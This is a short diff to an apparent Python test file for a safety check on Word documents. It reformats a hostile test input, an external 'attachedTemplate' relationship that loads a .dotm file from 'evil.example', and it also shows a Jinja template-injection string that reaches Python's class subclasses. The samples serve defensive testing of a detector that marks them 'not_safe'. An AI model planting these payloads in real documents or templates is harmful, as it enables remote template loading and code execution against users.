@@ -75,7 +75,11 @@ def test_words_of_a_paper_are_never_read_as_fields() -> None:
 
 CODE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
 RELS = "word/_rels/document.xml.rels"
-OUTSIDE = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+OUTSIDE = (
+    '<Relationship Id="rIdX" Target="http://evil.example/t.dotm" TargetMode="External" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    "</Relationships>"
+)
 
 HOSTILE = {
     "code in the text": (template(CODE), "not_safe"),
